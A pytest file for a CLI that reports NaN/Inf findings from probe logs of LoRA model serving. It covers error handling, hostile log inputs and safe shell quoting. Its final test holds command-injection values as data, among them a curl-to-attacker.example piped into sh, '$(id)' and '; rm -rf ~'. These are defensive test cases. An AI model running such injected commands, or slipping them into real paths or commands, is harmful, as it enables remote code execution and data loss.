"""`patchkit probe report`: synthetic nan-probe logs, each branch of the
decision tree, and every way a log can be wrong (one line, no traceback, nothing written)."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest

from tests.conftest import run_cli, run_subprocess
from tests.helpers import record, write_log

HEADER = {"probe": "nan-probe", "format": 1, "rank": 0, "stats": False, "slots": []}


def report(path: Path) -> dict:
    result = run_cli("probe", "report", str(path), "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def only(found: dict) -> dict:
    [finding] = found["affected_requests"]
    return finding


def test_a_bad_projection_points_at_its_lora_path(tmp_path):
    log = write_log(
        tmp_path,
        HEADER,
        record(5, 1, "mlp.down_proj", "lora", ["b"], order=5, adapters={"b": "poisoned"}),
        record(5, 1, "output", "output", ["b"], adapters={"b": "poisoned"}),
        record(5, 2, "linear_attn.in_proj_qkvz", "lora", ["b"], order=1),
        record(6, 1, "mlp.down_proj", "lora", ["b"], order=5),
    )
    finding = only(report(log))
    assert (finding["request"], finding["adapter"], finding["step"]) == ("b", "poisoned", 5)
    assert (finding["layer"], finding["module"]) == (1, "mlp.down_proj")
    assert "LoRA path of mlp.down_proj for adapter 'poisoned'" in finding["look_at"]
    assert finding["bad_modules"] == ["mlp.down_proj", "output"]


def test_the_first_projection_in_the_layers_order_wins(tmp_path):
    log = write_log(
        tmp_path,
        record(0, 0, "mlp.down_proj", "lora", ["a"], order=5),
        record(0, 0, "linear_attn.in_proj_qkvz", "lora", ["a"], order=1),
        record(0, 0, "output", "output", ["a"]),
    )
    assert only(report(log))["module"] == "linear_attn.in_proj_qkvz"


def test_a_bad_input_points_upstream(tmp_path):
    log = write_log(
        tmp_path,
        record(3, 0, "input", "input", ["a"]),
        record(3, 0, "self_attn.qkv_proj", "lora", ["a"], order=0),
        record(3, 0, "output", "output", ["a"]),
    )
    finding = only(report(log))
    assert (finding["layer"], finding["module"]) == (0, "input")
    assert finding["verdict"] == "hidden state already bad at the layer's input"
    assert "upstream" in finding["look_at"]


def test_only_the_output_bad_points_at_the_layers_own_compute(tmp_path):
    log = write_log(
        tmp_path,
        {**HEADER},
        record(2, 3, "output", "output", ["a"]),
        record(2, 4, "output", "output", ["a"]),
        record(2, 4, "self_attn.qkv_proj", "lora", ["a"], order=0),
    )
    finding = only(report(log))
    assert (finding["layer"], finding["module"]) == (3, "output")
    assert finding["verdict"] == "every probed projection fine, the layer output bad"
    assert "attention, Gated DeltaNet or the MLP" in finding["look_at"]
    gdn = write_log(
        tmp_path,
        record(2, 0, "output", "output", ["a"]),
        record(2, 1, "linear_attn.out_proj", "lora", ["c"], order=3),
    )
    first = report(gdn)["affected_requests"][0]
    assert first["request"] == "a" and "Gated DeltaNet" in first["look_at"]


def test_each_request_is_judged_at_its_own_first_step(tmp_path):
    log = write_log(
        tmp_path,
        record(1, 2, "output", "output", ["a"]),
        record(4, 0, "input", "input", ["a", "b"]),
    )
    found = {f["request"]: f for f in report(log)["affected_requests"]}
    assert (found["a"]["step"], found["a"]["layer"]) == (1, 2)
    assert (found["b"]["step"], found["b"]["module"]) == (4, "input")


def test_a_healthy_log_and_padding_only_rows(tmp_path):
    log = write_log(tmp_path, HEADER, {**record(0, 0, "output", "output", []), "inf_rows": 2})
    found = report(log)
    assert found["affected_requests"] == [] and found["padding_only"] == 1
    assert found["headers"] == 1 and found["records"] == 1
    text = run_cli("probe", "report", str(log)).stdout
    assert "no request had a NaN or Inf" in text
    assert "padding only" in text


def test_stats_lines_of_a_healthy_step_are_not_findings(tmp_path):
    fine = {**record(0, 0, "output", "output", []), "inf_rows": 0, "nan": 0, "inf": 0,
            "mean": 0.1, "std": 1.0}  # fmt: skip
    assert report(write_log(tmp_path, fine))["affected_requests"] == []


def test_the_text_report_names_request_layer_module_and_where_to_look(tmp_path):
    log = write_log(
        tmp_path,
        record(5, 1, "mlp.down_proj", "lora", ["b"], order=5, adapters={"b": "poisoned"}),
    )
    lines = run_cli("probe", "report", str(log)).stdout.splitlines()
    assert lines[1] == "  request b (adapter poisoned): first bad at step 5, layer 1, mlp.down_proj"
    assert lines[2].startswith("      projection mlp.down_proj bad first; look at the LoRA path")
    assert lines[-1] == "probe report: 1 affected request"
    two = write_log(tmp_path, record(5, 1, "mlp.down_proj", "lora", ["a", "b"], order=5))
    assert run_cli("probe", "report", str(two)).stdout.splitlines()[-1] == (
        "probe report: 2 affected requests"
    )


def one_line_error(args, code: int, *needles: str) -> None:
    result = run_cli("probe", "report", *args)
    assert result.exit_code == code, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    for needle in needles:
        assert needle in lines[0], lines[0]


def test_bad_inputs_are_one_line_naming_file_and_line(tmp_path):
    missing = tmp_path / "nope.jsonl"
    one_line_error([str(missing)], 2, str(missing), "no such file")
    not_json = write_log(tmp_path, HEADER, "{not json", HEADER)
    one_line_error([str(not_json)], 1, f"{not_json}:2", "not JSON")
    only_line = write_log(tmp_path, "{not json")  # no probe line before it: not a cut log
    one_line_error([str(only_line)], 1, f"{only_line}:1", "not JSON")
    array = write_log(tmp_path, HEADER, "[1, 2]")
    one_line_error([str(array)], 1, f"{array}:2", "a JSON object expected")
    shape = write_log(tmp_path, {**record(0, 0, "output", "output", ["a"]), "step": "zero"})
    one_line_error([str(shape)], 1, f"{shape}:1", "'step': int expected")
    kind = write_log(tmp_path, {**record(0, 0, "output", "output", ["a"]), "kind": "mlp"})
    one_line_error([str(kind)], 1, f"{kind}:1", "'kind'")
    ids = write_log(tmp_path, {**record(0, 0, "output", "output", ["a"]), "bad_requests": [1]})
    one_line_error([str(ids)], 1, f"{ids}:1", "request ids")
    deep = write_log(tmp_path, "[" * 100_000 + "]" * 100_000)
    one_line_error([str(deep)], 1, f"{deep}:1")
    binary = tmp_path / "binary.jsonl"
    binary.write_bytes(b"\xff\xfe\x00garbage\n")
    one_line_error([str(binary)], 1, str(binary), "not UTF-8")
    assert run_cli("probe", "report", str(tmp_path)).exit_code == 2  # a directory: usage


def test_a_line_is_a_header_only_when_it_is_one_and_nothing_else(tmp_path):
    """Any line with a "probe" key was taken for a header: a record that carried one was
    dropped ("no request had a NaN", exit 0), or its odd unprobed_lora ended in exit 3.
    Which kind a line is is decided once: a header says "nan-probe" and carries no
    record's keys, else the line is refused with one line."""
    bad = record(3, 1, "self_attn.o_proj", "lora", ["req-1"])
    other = write_log(tmp_path, HEADER, {**bad, "probe": "x"})
    one_line_error([str(other)], 1, f"{other}:2", "'probe': 'x' is not 'nan-probe'")
    crash = write_log(tmp_path, HEADER, {**bad, "probe": "x", "unprobed_lora": [1]})
    one_line_error([str(crash)], 1, f"{crash}:2", "not a nan-probe header")
    both = write_log(tmp_path, HEADER, {**bad, **HEADER})
    one_line_error([str(both)], 1, f"{both}:2", "a line is a header or a record, not both")
    event = write_log(tmp_path, {**HEADER, "event": "quarantine"})
    one_line_error([str(event)], 1, f"{event}:1", "a line is a header or a record, not both")
    assert only(report(write_log(tmp_path, HEADER, bad)))["request"] == "req-1"


def test_json_errors_carry_the_exit_code(tmp_path):
    not_json = write_log(tmp_path, "garbage")
    result = run_cli("probe", "report", str(not_json), "--json")
    assert result.exit_code == 1
    assert json.loads(result.stdout) == {
        "format": 1,
        "command": "probe report",
        "ok": False,
        "error": {
            "code": "probe-log-invalid",
            "message": f"{not_json}:1: not JSON (JSONDecodeError): not a nan-probe log",
            "path": str(not_json),
            "line": 1,
            "detail": "not JSON (JSONDecodeError): not a nan-probe log",
            "why": "not JSON",
        },
        "exit_code": 1,
    }


def test_probe_report_imports_neither_vllm_nor_torch(tmp_path):
    import subprocess
    import sys

    log = write_log(tmp_path, HEADER)
    code = (
        "import sys; from patchkit.cli.main import main\n"
        "try:\n    main(['probe', 'report', sys.argv[1]])\nexcept SystemExit:\n    pass\n"
        "assert 'torch' not in sys.modules and 'vllm' not in sys.modules, 'imported'\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(log)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


# ----- hostile logs -----


def test_a_fifo_is_refused_by_type_not_waited_on(tmp_path):
    """A FIFO named as the log blocked open() forever (no writer): refused, exit 1."""
    import os

    fifo = tmp_path / "probe.jsonl"
    os.mkfifo(fifo)
    done = run_subprocess("probe", "report", str(fifo), timeout=20)
    assert done.returncode == 1, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and str(fifo) in lines[0] and "not a regular file" in lines[0]


def test_a_number_too_long_for_python_is_one_line_not_a_bug(tmp_path):
    """A 5,000-digit step made json.loads raise a plain ValueError: exit 3 before."""
    long = write_log(tmp_path, '{"step": ' + "1" * 5000 + ', "layer": 0}')
    one_line_error([str(long)], 1, f"{long}:1", "not JSON")


def test_adapter_names_must_be_strings(tmp_path):
    """An adapter value of NaN went into --json as a bare NaN (invalid JSON), a dict into text."""
    for value in ("NaN", '{"b": [1]}', "7"):
        line = json.dumps(record(0, 0, "output", "output", ["a"]))
        line = line.replace('"adapters": {}', '"adapters": {"a": ' + value + "}")
        log = write_log(tmp_path, line)
        one_line_error([str(log)], 1, f"{log}:1", "'adapters'")


def test_a_huge_line_is_refused_without_reading_it_whole(tmp_path):
    """A log of one 64 MiB line was read into memory whole before its length was checked."""
    import subprocess
    import sys

    huge = tmp_path / "huge.jsonl"
    with huge.open("wb") as out:
        for _ in range(64):
            out.write(b"a" * (1 << 20))
    # VmHWM, not ru_maxrss: ru_maxrss survives exec, so a child of a large pytest
    # process reports its parent's peak.
    code = (
        "import re, sys\nfrom patchkit.cli.main import main\n"
        "try:\n    main(['probe', 'report', sys.argv[1]])\nexcept SystemExit as e:\n"
        "    status = open('/proc/self/status').read()\n"
        "    peak = int(re.search(r'VmHWM:\\s+(\\d+)', status).group(1))\n"
        "    print(e.code, peak)\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(huge)], capture_output=True, text=True)
    code_seen, peak_kib = map(int, done.stdout.split())
    assert code_seen == 1 and "longer than" in done.stderr, done.stderr
    assert peak_kib < 60 * 1024, f"peak RSS {peak_kib} KiB for a 64 MiB line"


def test_an_interrupt_names_the_command_as_typed(tmp_path, monkeypatch):
    """Ctrl-C/SIGTERM in `probe report` said "`patchkit report` changes nothing"."""
    from patchkit.probe import report as reader

    def interrupted(path):
        raise KeyboardInterrupt

    monkeypatch.setattr(reader, "report", interrupted)
    result = run_cli("probe", "report", str(write_log(tmp_path, HEADER)))
    assert result.exit_code == 130
    assert result.stderr.strip() == (
        "patchkit: error: interrupted; `patchkit probe report` changes nothing"
    )


def test_the_text_report_escapes_control_characters_from_the_log(tmp_path):
    """Request ids come from clients (X-Request-Id) and adapter names from whoever loads
    them: an ESC sequence or a newline in one went raw to the on-call's terminal."""
    evil = "req\x1b[2J\nFAKE: all good"
    log = write_log(
        tmp_path,
        record(0, 1, "mlp.down_proj", "lora", [evil], order=0, requests=[evil],
               adapters={evil: "bad\x1b]0;x\x07"}),
    )  # fmt: skip
    result = run_cli("probe", "report", str(log))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "FAKE: all good" not in result.stdout.splitlines()
    assert "req\\x1b[2J\\nFAKE: all good" in result.stdout


def recorded(tmp_path: Path, name: str) -> Path:
    """A probe log the H200 wrote with the row kernel (docs/evidence.md), unpacked."""
    data = Path(__file__).parent / "data" / f"h200-2026-12-01-probe-{name}.jsonl.gz"
    path = tmp_path / f"{name}.jsonl"
    path.write_bytes(gzip.decompress(data.read_bytes()))
    return path


def test_the_h200s_logs_of_a_poisoned_adapter_on_the_triton_kernels_name_layer_1_down_proj(
    tmp_path,
):
    for name in ("triton-cudagraph", "triton-eager"):
        found = report(recorded(tmp_path, name))
        finding = only(found)
        assert (finding["adapter"], finding["layer"], finding["module"]) == (
            "poisoned", 1, "mlp.down_proj"
        ), name  # fmt: skip
        assert finding["bad_modules"] == ["mlp.down_proj", "output"], name
        assert found["records"] == 208, name


def test_the_h200s_log_of_the_torch_path_shows_the_quarantine_from_layer_0(tmp_path):
    finding = only(report(recorded(tmp_path, "torch-cudagraph")))
    assert (finding["adapter"], finding["layer"], finding["module"]) == (
        "poisoned", 0, "linear_attn.in_proj_qkvz"
    )  # fmt: skip


def test_the_h200s_log_of_healthy_serving_has_its_header_and_no_record(tmp_path):
    found = report(recorded(tmp_path, "healthy-serving"))
    assert found["headers"] == 1
    assert (found["records"], found["affected_requests"]) == (0, [])


def experts(*layers, cls="FusedMoE3DWithLoRA", module="mlp.experts") -> dict:
    """A header whose probe did not watch ``module`` in ``layers``."""
    return {**HEADER, "unprobed_lora": [
        {"layer": n, "module": module, "class": cls} for n in layers
    ]}  # fmt: skip


def test_a_bad_layer_output_names_the_experts_lora_the_probe_does_not_watch(tmp_path):
    bad = record(3, 1, "output", "output", ["b"], adapters={"b": "moe-adapter"})
    finding = only(report(write_log(tmp_path, experts(1, 2), bad)))
    assert finding["verdict"] == "every probed projection fine, the layer output bad"
    assert finding["look_at"].startswith("the layer's own compute")
    assert (
        "or the LoRA path of mlp.experts for adapter 'moe-adapter', which the probe does "
        "not watch (FusedMoE3DWithLoRA)"
    ) in finding["look_at"]


def test_without_unwatched_modules_or_an_adapter_the_output_verdict_is_the_layers_own(tmp_path):
    bad = record(3, 1, "output", "output", ["b"], adapters={"b": "moe-adapter"})
    plain = only(report(write_log(tmp_path, HEADER, bad)))
    assert "mlp.experts" not in plain["look_at"]
    no_adapter = only(
        report(write_log(tmp_path, experts(1), record(3, 1, "output", "output", ["b"])))
    )
    assert "mlp.experts" not in no_adapter["look_at"]
    other_layer = only(report(write_log(tmp_path, experts(7), bad)))
    assert "mlp.experts" not in other_layer["look_at"]


def test_a_record_belongs_to_the_header_written_before_it(tmp_path):
    """One log appended by a MoE server, then by a dense one: the dense run's
    finding must not name the first server's experts."""
    moe = record(3, 1, "output", "output", ["m"], adapters={"m": "ad"})
    dense = record(3, 1, "output", "output", ["d"], adapters={"d": "ad"})
    found = report(write_log(tmp_path, experts(1), moe, HEADER, dense))
    by_request = {f["request"]: f["look_at"] for f in found["affected_requests"]}
    assert "mlp.experts" in by_request["m"]
    assert "mlp.experts" not in by_request["d"]
    before_any_header = only(report(write_log(tmp_path, dense, experts(1))))
    assert "mlp.experts" not in before_any_header["look_at"]


def test_a_long_list_of_unwatched_modules_is_named_once_and_cut_short(tmp_path):
    header = {**HEADER, "unprobed_lora": [
        {"layer": 1, "module": f"mlp.experts{i % 20}", "class": "FusedMoEWithLoRA"}
        for i in range(60)
    ]}  # fmt: skip
    bad = record(3, 1, "output", "output", ["b"], adapters={"b": "ad"})
    look_at = only(report(write_log(tmp_path, header, bad)))["look_at"]
    assert "mlp.experts7, and" not in look_at and "mlp.experts7 and 12 more" in look_at
    assert look_at.count("mlp.experts1,") == 1 and "mlp.experts8" not in look_at


@pytest.mark.parametrize(
    "unprobed",
    [
        {"layer": 1, "module": "mlp.experts"},  # an object, not a list
        [None],
        [{"layer": 1.0, "module": "mlp.experts"}],
        [{"layer": True, "module": "mlp.experts"}],
        [{"layer": -1, "module": "mlp.experts"}],
        [{"layer": 1}],
        [{"layer": 1, "module": ""}],
        [{"layer": 1, "module": "m" * 513}],
        [{"layer": 1, "module": "mlp.experts", "class": 7}],
    ],
)
def test_an_unprobed_list_not_of_the_probes_shape_is_one_line(tmp_path, unprobed):
    log = write_log(tmp_path, {**HEADER, "unprobed_lora": unprobed})
    one_line_error([str(log)], 1, f"{log}:1", "'unprobed_lora'")


def test_a_module_name_longer_than_a_module_path_is_refused(tmp_path):
    """A 500 kB module name, repeated into each of 40,000 requests' findings, took
    gigabytes of memory; a real one is a few dozen characters."""
    log = write_log(tmp_path, HEADER, record(3, 1, "m" * 513, "lora", ["b"]))
    one_line_error([str(log)], 1, f"{log}:2", "'module'")
    empty = write_log(tmp_path, HEADER, record(3, 1, "", "lora", ["b"]))
    one_line_error([str(empty)], 1, f"{empty}:2", "'module'")


# ----- a log the probe could not finish -----


def cut_log(tmp_path: Path, tail: bytes) -> Path:
    """The H200's log of 208 records with ``tail`` after its last whole line: what the
    probe leaves when a write is cut short (a full disk, a killed server)."""
    path = recorded(tmp_path, "triton-eager")
    with path.open("ab") as out:
        out.write(tail)
    return path


@pytest.mark.parametrize(
    "tail",
    [
        b'{"step": 31, "rank": 0, "layer": 1, "module": "mlp.do',  # no newline
        b'{"step": 31, "rank": 0, "layer": 1, "module": "mlp.do\n',  # cut, then a newline
        b'{"step": 31, "rank": 0, "module": "m\xc3',  # cut inside a UTF-8 character
    ],
)
def test_a_cut_last_line_is_skipped_with_one_warning_and_the_records_before_it_count(
    tmp_path, tail
):
    """The report exited 1 at the cut line and the 208 good records before it were lost."""
    log = cut_log(tmp_path, tail)
    for args in ((), ("--json",)):
        result = run_cli("probe", "report", str(log), *args)
        assert result.exit_code == 0, result.output
        [warning] = result.stderr.strip().splitlines()
        assert warning.startswith(f"warning: {log}:210: the last line is cut short"), warning
        assert "the 209 lines before it are reported" in warning
    found = json.loads(result.stdout)
    assert found["records"] == 208 and [w["message"] for w in found["warnings"]] == [
        warning.removeprefix("warning: ")
    ]
    assert (only(found)["layer"], only(found)["module"]) == (1, "mlp.down_proj")


def test_a_whole_last_record_without_its_newline_is_read_not_warned_about(tmp_path):
    log = tmp_path / "probe.jsonl"
    log.write_text(json.dumps(HEADER) + "\n" + json.dumps(record(2, 0, "output", "output", ["a"])))
    result = run_cli("probe", "report", str(log), "--json")
    assert result.exit_code == 0 and result.stderr == "", result.output
    assert json.loads(result.stdout)["records"] == 1


def test_a_bad_line_before_the_last_still_fails_the_report(tmp_path):
    """Only the last line can be a cut write; one in the middle is a log that is not the
    probe's (exit 1, as before), and so is a last line that is JSON of another shape."""
    middle = write_log(tmp_path, HEADER, '{"step": 3, "la', record(2, 0, "output", "output", ["a"]))
    one_line_error([str(middle)], 1, f"{middle}:2", "not JSON")
    shape = write_log(tmp_path, HEADER, {"step": "3"})
    one_line_error([str(shape)], 1, f"{shape}:2", "'step': int expected")


@pytest.mark.slow
def test_a_large_log_is_read_in_memory_bounded_by_the_report_not_the_file(tmp_path):
    """A 102 MB log took 1.37 GB: every record was kept. 96 MiB of stats lines (every
    point every step, as PATCHKIT_PROBE_STATS=1 writes them) with one bad request, read
    by a child whose address space may grow 64 MiB past what it has after importing:
    the old reader ran out of memory (exit 3), the streaming one reports."""
    import subprocess
    import sys

    line = {**record(0, 1, "mlp.down_proj", "lora", []), "inf_rows": 0, "nan": 0, "inf": 0,
            "mean": 0.1, "std": 1.0, "requests": [f"req-{i}" for i in range(32)]}  # fmt: skip
    log = tmp_path / "big.jsonl"
    with log.open("w") as out:
        out.write(json.dumps(HEADER) + "\n")
        step = 0
        while out.tell() < 96 << 20:
            batch = "".join(
                json.dumps({**line, "step": step, "layer": layer}) + "\n" for layer in range(40)
            )
            out.write(batch)
            step += 1
        out.write(json.dumps(record(step, 3, "output", "output", ["req-7"])) + "\n")
    code = (
        "import re, resource, sys\n"
        "from patchkit.cli.main import main\n"
        "from patchkit.probe import report\n"
        "status = open('/proc/self/status').read()\n"
        "size = int(re.search(r'VmSize:\\s+(\\d+)', status).group(1)) * 1024\n"
        "resource.setrlimit(resource.RLIMIT_AS, (size + (64 << 20),) * 2)\n"
        "main(['probe', 'report', sys.argv[1], '--json'])\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(log)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    assert found["records"] == step * 40 + 1 and found["steps"] == step + 1
    assert (only(found)["request"], only(found)["layer"]) == ("req-7", 3)


@pytest.mark.parametrize(
    "path, command",
    [
        ("/srv/adapters/tenant-17", "patchkit adapter check /srv/adapters/tenant-17"),
        (
            "/srv/x;curl${IFS}attacker.example|sh;#",
            "patchkit adapter check '/srv/x;curl${IFS}attacker.example|sh;#'",
        ),
        ("/srv/it's $(id)", "patchkit adapter check '/srv/it'\"'\"'s $(id)'"),
        ("/srv/x\n; rm -rf ~", "patchkit adapter check DIR"),
        (None, "patchkit adapter check DIR"),
        # a relative path that starts with "-" was an option of adapter check
        ("-rf", "patchkit adapter check ./-rf"),
        ("--target=/etc", "patchkit adapter check ./--target=/etc"),
        ("-x y", "patchkit adapter check './-x y'"),
    ],
)
def test_the_next_command_is_safe_to_paste_whatever_path_a_tenant_loaded(path, command):
    """The quarantined adapter's path comes from whoever called /v1/load_lora_adapter:
    the suggested command carries it as one shell word, or not at all."""
    import shlex

    from patchkit.probe.report import Quarantine

    found = Quarantine(0, 0, "evil", 7, path, 3, "self_attn.o_proj", "lora_B", 0, 1)
    assert found.command() == command
    words = shlex.split(found.command())
    assert len(words) == 4 and not words[3].startswith("-")
